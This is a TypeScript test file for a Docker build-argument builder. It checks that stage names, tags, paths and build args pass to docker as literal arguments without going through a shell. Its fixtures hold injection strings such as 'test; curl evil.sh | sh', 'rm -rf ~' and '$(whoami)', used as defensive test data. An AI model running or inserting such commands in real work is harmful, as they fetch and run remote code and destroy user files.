// The exact argument vector the build picker hands to the task, for several stages, tags and build args,
// including hostile names; and proof that a process started without a shell receives it unchanged.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { buildArgv, BuildRequestError, changedBuildArgs, tagProblem, type BuildRequest } from '../../client/src/dockerArgs';
import { findOnPath } from '../../client/src/findExecutable';

const base: BuildRequest = { dockerfile: '/w/app/Dockerfile', context: '/w/app', target: 'build', tag: 'app:build', buildArgs: [] };

const cases: ReadonlyArray<{ name: string; req: BuildRequest; argv: string[] }> = [
  {
    name: 'named stage, tag, no args',
    req: base,
    argv: ['build', '--target', 'build', '-t', 'app:build', '-f', '/w/app/Dockerfile', '/w/app'],
  },
  {
    name: 'unnamed final stage: no --target',
    req: { ...base, target: null, tag: 'registry.local:5000/team/app:1.2.3' },
    argv: ['build', '-t', 'registry.local:5000/team/app:1.2.3', '-f', '/w/app/Dockerfile', '/w/app'],
  },
  {
    name: 'build args in order, values with = and spaces',
    req: { ...base, target: 'runtime', buildArgs: [['GO_VERSION', '1.23'], ['LDFLAGS', '-s -w -X main.v=1'], ['EMPTY', '']] },
    argv: ['build', '--target', 'runtime', '-t', 'app:build', '-f', '/w/app/Dockerfile', '--build-arg', 'GO_VERSION=1.23', '--build-arg', 'LDFLAGS=-s -w -X main.v=1', '--build-arg', 'EMPTY=', '/w/app'],
  },
  {
    name: 'hostile stage, tag and values stay single literal arguments',
    req: {
      dockerfile: '/w/my app/$(touch pwned)/Dockerfile.dev',
      context: "/w/my app/`id`; rm -rf ~ && echo 'x' | sh",
      target: 'test; curl evil.sh | sh',
      tag: '$(whoami):`id`',
      buildArgs: [['TOKEN', '"; rm -rf / #'], ['NL', 'a\nb'], ['GLOB', '*'], ['VAR', '${HOME} $HOME %PATH%']],
    },
    argv: [
      'build', '--target', 'test; curl evil.sh | sh', '-t', '$(whoami):`id`', '-f', '/w/my app/$(touch pwned)/Dockerfile.dev',
      '--build-arg', 'TOKEN="; rm -rf / #', '--build-arg', 'NL=a\nb', '--build-arg', 'GLOB=*', '--build-arg', 'VAR=${HOME} $HOME %PATH%',
      "/w/my app/`id`; rm -rf ~ && echo 'x' | sh",
    ],
  },
  {
    name: 'a context that looks like an option stays a path',
    req: { ...base, context: '--output=type=local,dest=/', target: '--privileged', tag: null },
    argv: ['build', '--target', '--privileged', '-f', '/w/app/Dockerfile', './--output=type=local,dest=/'],
  },
];

for (const c of cases) {
  test(`argv: ${c.name}`, () => {
    assert.deepEqual(buildArgv(c.req), c.argv);
  });
}

test('argv: a build-arg name holding "=" or blank is refused, not split', () => {
  assert.throws(() => buildArgv({ ...base, buildArgs: [['A=B', 'x']] }), BuildRequestError);
  assert.throws(() => buildArgv({ ...base, buildArgs: [['', 'x']] }), BuildRequestError);
  assert.throws(() => buildArgv({ ...base, buildArgs: [['A B', 'x']] }), BuildRequestError);
  assert.throws(() => buildArgv({ ...base, context: '' }), BuildRequestError);
});

test('only build args the user changed are passed, once each, in declaration order', () => {
  const declared = [
    { name: 'GO_VERSION', defaultValue: '1.24' },
    { name: 'APP_ENV', defaultValue: 'production' },
    { name: 'TOKENLESS', defaultValue: null },
    { name: 'GO_VERSION', defaultValue: '1.24' },
    { name: 'NOTE', defaultValue: 'a b' },
  ];
  const entered = new Map([
    ['GO_VERSION', '1.23'],
    ['APP_ENV', 'production'],
    ['TOKENLESS', ''],
    ['NOTE', '$(id)'],
  ]);
  assert.deepEqual(changedBuildArgs(declared, entered), [
    ['GO_VERSION', '1.23'],
    ['NOTE', '$(id)'],
  ]);
});

test('tag problems', () => {
  assert.deepEqual(['app:1', '', 'a b', '-x', 'Reg:5000/a/b:c'].map(tagProblem), [null, 'empty', 'whitespace', 'leadingDash', null]);
});

test('a fake docker on PATH, started without a shell, receives every hostile argument verbatim', { skip: process.platform === 'win32' }, () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'dockwise-docker-'));
  try {
    const fake = path.join(dir, 'docker');
    const marker = path.join(dir, 'pwned');
    fs.writeFileSync(fake, `#!${process.execPath}\nprocess.stdout.write(JSON.stringify(process.argv.slice(2)));\n`, { mode: 0o755 });
    const found = findOnPath('docker', { PATH: `relative/bin:${dir}:/nonexistent` }, 'linux', (p) => {
      try {
        fs.accessSync(p, fs.constants.X_OK);
        return fs.statSync(p).isFile();
      } catch {
        return false;
      }
    });
    assert.equal(found, fake);
    const hostile = cases.find((c) => c.name.startsWith('hostile'))!;
    const req = { ...hostile.req, target: `x; touch ${marker}`, tag: `$(touch ${marker})` };
    const argv = buildArgv(req);
    const received = JSON.parse(execFileSync(found!, argv, { encoding: 'utf8' })) as string[];
    assert.deepEqual(received, argv);
    assert.equal(fs.existsSync(marker), false);
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
});

test('PATH lookup: absolute entries only, PATHEXT on Windows, undefined when missing', () => {
  const present = new Set(['/usr/local/bin/docker', 'C:\\Program Files\\Docker\\docker.EXE'.toLowerCase()]);
  const isFile = (p: string): boolean => present.has(p) || present.has(p.toLowerCase());
  assert.equal(findOnPath('docker', { PATH: '.:bin:/usr/bin:/usr/local/bin' }, 'linux', isFile), '/usr/local/bin/docker');
  assert.equal(findOnPath('docker', { PATH: '/usr/bin' }, 'linux', isFile), undefined);
  assert.equal(findOnPath('docker', {}, 'linux', isFile), undefined);
  assert.equal(
    findOnPath('docker', { Path: 'C:\\Windows;"C:\\Program Files\\Docker"', PATHEXT: '.COM;.EXE' }, 'win32', isFile),
    'C:\\Program Files\\Docker\\docker.exe',
  );
});
